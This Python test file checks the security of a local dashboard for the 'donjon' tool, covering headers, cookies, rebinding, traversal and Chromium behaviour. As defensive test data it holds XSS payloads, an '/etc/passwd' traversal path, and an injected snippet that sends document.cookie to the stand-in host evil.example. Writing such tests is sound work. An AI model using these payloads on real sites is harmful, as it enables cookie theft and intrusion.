#!/usr/bin/python3
# SPDX-License-Identifier: Apache-2.0
"""donjon dash: who may see the page, by bytes; what it shows, by headless
Chromium, with the keyboard alone; and what a hostile page in the same browser
and a hostile host can do to it: nothing."""
import http.client
import http.server
import json
import os
import re
import socket
import subprocess
import sys
import tempfile
import threading
import time

sys.path.insert(0, os.path.join(os.path.dirname(os.path.abspath(__file__)), "..", "support"))
import browser  # noqa: E402
from donjonlib import Agent, Tap, check_schema, echo_module, load_schema, program, spin_module  # noqa: E402

t = Tap()
work = tempfile.mkdtemp(prefix="donjon-dash-")
ENV = dict(os.environ, XDG_STATE_HOME=work + "/state", XDG_CONFIG_HOME=work + "/config")
agent = Agent()
H = ["-H", "unix:" + agent.sock, "-p", agent.policy()]
EVIL = "</td><script>document.title='pwned'</script><img src=x onerror=\"document.title='pwned'\">"


def donjon(*args, stdin=None):
    return subprocess.run([program("donjon"), *args], env=ENV, cwd=work, stdin=stdin or subprocess.DEVNULL,
                          stdout=subprocess.PIPE, stderr=subprocess.PIPE, timeout=60)


def put(name, data):
    with open(os.path.join(work, name), "wb") as f:
        f.write(data)
    return os.path.join(work, name)


def keep(name, module, *args, stdin=None):
    r = donjon(*H, "start", "--name", name, *args, module, stdin=stdin)
    if r.returncode != 0:
        t.ok(False, "a keep is started", r.stderr)


# A host that lies in every string it may send.
def lies(s):
    while True:
        try:
            c, _ = s.accept()
        except OSError:
            return
        threading.Thread(target=lie, args=(c,), daemon=True).start()


def lie(c):
    head = c.recv(65536)
    if b"/v1/agent" in head:
        body = {"version": EVIL, "capacity": {"keeps": EVIL}, "tees": [{"tee": EVIL, "available": True, "protection": "hardware"}]}
    elif b"/v1/keeps" in head:
        body = {"keeps": [{"id": EVIL, "state": EVIL, "traffic": {"to-keep": {EVIL: {"frames": 1}}}}, EVIL, 7, None]}
    else:
        e = {"schema": "donjon.event/1", "id": 1, "time": "2026-11-26T11:00:00Z", "keep": "k", "event": "lost", "detail": {EVIL: EVIL}}
        c.sendall(b"HTTP/1.1 200 OK\r\nContent-Type: text/event-stream\r\n\r\ndata: " + json.dumps(e).encode() + b"\n\n")
        time.sleep(60)
        return
    text = json.dumps(body).encode()
    c.sendall(b"HTTP/1.1 200 OK\r\nContent-Type: application/json\r\nContent-Length: %d\r\n\r\n" % len(text) + text)
    c.close()


liar = socket.socket(socket.AF_UNIX, socket.SOCK_STREAM)
liar.bind(work + "/liar")
liar.listen(16)
threading.Thread(target=lies, args=(liar,), daemon=True).start()
# One that takes connections and says nothing.
mute = socket.socket(socket.AF_UNIX, socket.SOCK_STREAM)
mute.bind(work + "/mute")
mute.listen(16)

echo, spin = put("echo.wasm", echo_module()), put("spin.wasm", spin_module())
keep("done", echo, "--out", work + "/out", stdin=open(put("in", os.urandom(100000)), "rb"))
donjon("attach", "done")
keep("busy", spin, "--discard")

dash = subprocess.Popen([program("donjon"), "--json", "-H", "unix:" + agent.sock, "-H", "unix:%s/liar" % work,
                         "-H", "unix:%s/mute" % work, "dash"], env=ENV, stdout=subprocess.PIPE)
said = json.loads(dash.stdout.readline())
t.eq(check_schema(load_schema("donjon.dash/1"), said), "", "donjon --json dash says donjon.dash/1")
url = said["url"]
port, token = int(re.search(r":(\d+)/", url).group(1)), url.split("token=")[1]
COOKIE = {"Cookie": "donjon-%d=%s" % (port, token)}
CSP = ("default-src 'none'; style-src 'self'; script-src 'self'; img-src 'self'; connect-src 'self'; base-uri 'none'; "
       "form-action 'none'; frame-ancestors 'none'")


def ask(path="/", headers=COOKIE, method="GET", host=None):
    c = http.client.HTTPConnection("127.0.0.1", port, timeout=20)
    h = dict(headers)
    h["Host"] = host or "127.0.0.1:%d" % port
    c.request(method, path, None, h)
    r = c.getresponse()
    body = r.read()
    c.close()
    return r, body


# ------------------------------------------------------------------ by bytes
with open("/proc/net/tcp") as f:
    listens = [x.split()[1] for x in f if x.split()[3] == "0A" and x.split()[1].endswith(":%04X" % port)]
t.eq(listens, ["0100007F:%04X" % port], "it listens on 127.0.0.1 alone")
r, body = ask("/?token=" + token, {})
t.ok(r.status == 303 and r.headers["Location"] == "/" and r.headers["Set-Cookie"] ==
     "donjon-%d=%s; Path=/; HttpOnly; SameSite=Strict" % (port, token), "the URL's token is changed for a cookie", r.headers)
bad = []
for path in ("/", "/keep/done", "/keep/busy", "/help/evidence.chain", "/dash.css", "/dash.js", "/dash.svg", "/evidence/done"):
    r, body = ask(path)
    if r.status != 200 or token.encode() in body or r.headers["Content-Security-Policy"] != CSP:
        bad.append((path, r.status))
t.eq(bad, [], "with the cookie each page is there, under the policy, and none has the token in it")
bad = []
for what, args, want in (
        ("no cookie", {"headers": {}}, 403), ("a wrong one", {"headers": {"Cookie": "donjon-%d=%s" % (port, "0" * 64)}}, 403),
        ("a wrong token", {"path": "/?token=" + "0" * 64, "headers": {}}, 403), ("a style sheet", {"path": "/dash.css", "headers": {}}, 403),
        ("evidence", {"path": "/evidence/done", "headers": {}}, 403),
        ("a rebound name", {"host": "evil.example:%d" % port}, 421), ("no port", {"host": "127.0.0.1"}, 421),
        ("another origin", {"headers": dict(COOKIE, Origin="https://evil.example")}, 403),
        ("another site", {"headers": dict(COOKIE, **{"Sec-Fetch-Site": "cross-site"})}, 403),
        ("another port's page", {"headers": dict(COOKIE, **{"Sec-Fetch-Site": "same-site"})}, 403),
        ("POST", {"method": "POST"}, 405), ("DELETE", {"method": "DELETE", "path": "/keep/busy"}, 405), ("OPTIONS", {"method": "OPTIONS"}, 405),
        ("nothing", {"path": "/nothing"}, 404), ("a folder up", {"path": "/keep/../../x"}, 404), ("the ticket", {"path": "/evidence/busy/../ticket"}, 404),
        ("escaped", {"path": "/evidence/..%2f..%2fetc%2fpasswd"}, 404), ("a name that is none", {"path": "/keep/%3Cscript%3E"}, 404),
        ("an error that is none", {"path": "/help/no.such"}, 404)):
    r, body = ask(**args)
    fields = (r.headers["Content-Security-Policy"], r.headers["X-Content-Type-Options"], r.headers["X-Frame-Options"],
              r.headers["Referrer-Policy"], r.headers["Cache-Control"], r.headers["Cross-Origin-Resource-Policy"])
    if r.status != want or fields != (CSP, "nosniff", "DENY", "no-referrer", "no-store", "same-origin") or b"busy" in body:
        bad.append((what, r.status, fields))
t.eq(bad, [], "19 others are refused, each with the same policy and without a word of what is there")
c = socket.create_connection(("127.0.0.1", port))
c.sendall(b"GET / HTTP/1.1\r\nHost: " + b"x" * 100000 + b"\r\n\r\n")
c.settimeout(10)
try:
    got = c.recv(1000)
except OSError:
    got = b""
t.ok(b" 200 " not in got, "a head without end is refused", got)
c.close()
start = time.time()
r, body = ask()
t.ok(r.status == 200 and time.time() - start < 10, "a host that says nothing holds up no page")
text = body.decode()
t.ok("EMULATED: nothing protects 1 of 1 running keeps" in text, "what is emulated is said in words", text)
t.ok(EVIL not in text and "<img" not in text, "a host's words are text", text)
t.ok(re.search(r"<noscript><meta http-equiv=\"refresh\"", text) and not re.search(r"<script(?! src=\"/dash.js\" defer></script>)", text)
     and " style=" not in text and not re.search(r"<[^>]*\son[a-z]+=", text), "the page needs no script, and none stands in it", text)
t.ok(not re.search(r"(?:src|href)=\"(?!/|#)", text), "nothing is loaded from elsewhere")
r, bundle = ask("/evidence/done")
r = donjon("verify", "-p", agent.policy(), put("saved", bundle))
t.ok(r.returncode == 0, "the evidence that is saved there is judged good by donjon verify", r.stdout)
r = donjon("dash", "--port", str(port))
t.ok(r.returncode == 69 and b"error[dash.listen]" in r.stderr, "a port that is taken: dash.listen", r.stderr)


# ---------------------------------------------------------------- by Chromium
def hostile_page(url):
    """Another site's page in the same browser."""
    page = """<!doctype html><title>hostile</title><body><script>
window.got = {};
const U = %s;
function note(k, v) { window.got[k] = v; }
async function all() {
  for (const [k, o] of Object.entries({fetch: {}, nocors: {mode: "no-cors"}, cred: {credentials: "include"},
                                       crednocors: {mode: "no-cors", credentials: "include"}})) {
    try { const r = await fetch(U, o); note(k, r.type + ":" + (await r.text()).length); } catch (e) { note(k, "blocked"); }
  }
  for (const [k, tag, attr, u] of [["script", "script", "src", "dash.js"], ["img", "img", "src", "dash.svg"], ["css", "link", "href", "dash.css"]])
    await new Promise(ok => { const e = document.createElement(tag); if (tag == "link") e.rel = "stylesheet";
      e.onload = () => { note(k, "loaded"); ok(); }; e.onerror = () => { note(k, "blocked"); ok(); };
      e[attr] = U + u; document.body.append(e); });
  const f = document.createElement("iframe");
  await new Promise(ok => { f.onload = ok; f.src = U; document.body.append(f); });
  try { note("frame", f.contentDocument ? f.contentDocument.body.innerText : "blocked"); } catch (e) { note("frame", "blocked"); }
  const w = window.open(U); await new Promise(ok => setTimeout(ok, 1000));
  try { note("window", w && w.document ? w.document.title : "blocked"); } catch (e) { note("window", "blocked"); }
  window.finished = true;
}
all();
</script>""" % json.dumps(url)

    class Handler(http.server.BaseHTTPRequestHandler):
        def do_GET(self):
            self.send_response(200)
            self.send_header("Content-Type", "text/html")
            self.end_headers()
            self.wfile.write(page.encode())

        def log_message(self, *a):
            pass
    s = http.server.ThreadingHTTPServer(("127.0.0.1", 0), Handler)
    threading.Thread(target=s.serve_forever, daemon=True).start()
    return s.server_address[1]


def chromium():
    with browser.Browser() as b:
        b.go(url)
        t.eq(b.url(), "http://127.0.0.1:%d/" % port, "the token does not stay in the address")
        t.ok(b.wait("return document.querySelectorAll('.host').length == 3 && document.querySelectorAll('.host p').length > 3"),
             "the hosts are shown", b.source())
        t.eq(b.run("return [...document.querySelectorAll('tbody th a')].map(e => e.textContent)"), ["busy", "done"], "and the keeps")
        t.ok(b.wait("return document.body.innerText.includes('onerror')") and b.title() == "keeps - donjon",
             "a hostile host's words are shown and do nothing", b.title())
        t.eq(b.log(), [], "the page breaks none of its own rules")
        # The keyboard alone.
        b.keys("j")
        t.eq(b.run("return document.activeElement.textContent"), "busy", "j goes to the first keep")
        time.sleep(3)
        t.eq(b.run("return document.activeElement.textContent"), "busy", "and stays there while the page is renewed")
        b.keys("j\ue007")
        t.ok(b.wait("return location.pathname == '/keep/done' && document.readyState == 'complete'"), "Enter opens one", b.url())
        t.eq(b.run("return document.querySelector('#verdict .lead .tag').textContent"), "good", "its verdict is good")
        t.eq(b.run("return document.querySelectorAll('#verdict tbody tr').length"), 19, "with all of its 19 checks")
        t.eq(b.run("return document.querySelector('#evidence .map').innerText.replace(/^.{6}/mg, '').replace(/\\s/g, '')"),
             re.search(b"DJPR.{236}", bundle, re.S).group(0).hex(), "the map has every byte of the report")
        t.eq(b.run("return [...document.querySelectorAll('.map [data-f]')].map(e => e.innerText.split(' ').length).reduce((a, b) => a + b)"), 240,
             "each byte is of a field")
        b.keys("2")
        t.eq(b.run("return location.hash"), "#evidence", "2 goes to the evidence")
        for _ in range(60):
            if b.run("return document.activeElement.dataset.f") == "3":
                break
            b.keys("\ue004")
        t.eq(b.run("return [...document.querySelectorAll('.map .hit')].map(e => e.title)[0]"), "measurement",
             "Tab comes to a field, and its bytes are shown")
        t.eq(b.run("return [...document.querySelectorAll('.map .hit')].map(e => e.innerText.split(' ').length).reduce((a, b) => a + b)"), 32,
             "all 32 of them")
        t.ok(b.run("return ['claimed', 'exited', 'released'].every(w => document.querySelector('#time').innerText.includes(w))"), "the time line is there")
        t.ok(b.run("return document.querySelectorAll('#seen figure').length == 2 && document.querySelectorAll('#seen rect').length > 3"),
             "what the host could learn is counted and drawn, link by link", b.source())
        b.keys("j")
        b.keys("o")
        t.ok(b.wait("return location.pathname == '/'"), "o goes back")
        wide = []
        for w in (1280, 500):
            b.size(w, 900)
            for p in ("", "keep/done"):
                b.go("http://127.0.0.1:%d/%s" % (port, p))
                if b.run("return document.documentElement.scrollWidth > innerWidth + 1"):
                    wide.append((w, p))
        t.eq(wide, [], "no page is wider than its window, large or small")
        # What script could still do, had it come in.
        b.run("""window.broke = []; document.addEventListener('securitypolicyviolation', e => window.broke.push(e.effectiveDirective));
            const s = document.createElement('script'); s.textContent = "document.title = 'pwned'"; document.body.append(s);
            const x = document.createElement('script'); x.src = 'https://evil.example/x.js'; document.body.append(x);
            const i = document.createElement('img'); i.src = 'https://evil.example/?' + document.cookie; document.body.append(i);
            const d = document.createElement('div'); d.setAttribute('onclick', "document.title = 'pwned'"); document.body.append(d); d.click();
            fetch('https://evil.example/').catch(() => 0);""")
        time.sleep(1)
        broke = set(b.run("return window.broke"))
        t.ok({"script-src-elem", "script-src-attr", "img-src", "connect-src"} <= broke and b.title() != "pwned",
             "inline script, handlers, other sites' scripts, images and requests are refused", broke)
        t.eq(b.run("return document.cookie"), "", "no script can read the cookie")
        # Another site in the same browser, which has the cookie.
        other = hostile_page("http://127.0.0.1:%d/" % port)
        for name in ("127.0.0.1", "localhost"):
            b.go("http://%s:%d/" % (name, other))
            b.wait("return window.finished", 20)
            got = b.run("return window.got")
            b.close_others()
            t.ok(len(got) == 9 and set(got.values()) <= {"blocked", ""}, "a hostile page from %s gets nothing of it" % name, got)
        # It lives.
        b.go("http://127.0.0.1:%d/" % port)
        b.run("window.same = 1")
        keep("late", spin, "--discard")
        t.ok(b.wait("return [...document.querySelectorAll('tbody th a')].some(e => e.textContent == 'late') && window.same == 1"),
             "a new keep appears by itself")
        dash.terminate()
        dash.wait(10)
        t.ok(b.wait("return !!document.getElementById('stale')"), "a page that is no longer served says so")


why = browser.missing()
if why:
    t.skip("the page in headless Chromium", why)
else:
    chromium()
dash.terminate()
dash.wait(10)
for name in ("busy", "late"):
    donjon("stop", "--kill", name)
agent.close()
t.done()
